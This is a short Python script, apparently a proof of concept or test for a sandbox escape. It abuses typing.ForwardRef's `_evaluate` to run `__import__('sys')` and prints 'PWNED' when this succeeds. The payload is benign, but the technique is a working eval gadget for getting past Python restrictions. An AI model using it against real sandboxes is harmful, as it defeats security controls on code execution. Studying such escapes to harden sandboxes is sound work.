import typing

Reference = type(typing.List["int"].__args__[0])


class Mine(Reference, _root=True):
    pass


try:
    Mine("__import__('sys').modules")._evaluate({}, {}, recursive_guard=frozenset())
except (TypeError, SyntaxError) as error:
    if "{'sys'" in str(error):
        print("PWNED")
text = Mine("len(__import__('sys').modules) and int")
if text._evaluate({}, {}, recursive_guard=frozenset()) is int:
    print("PWNED")
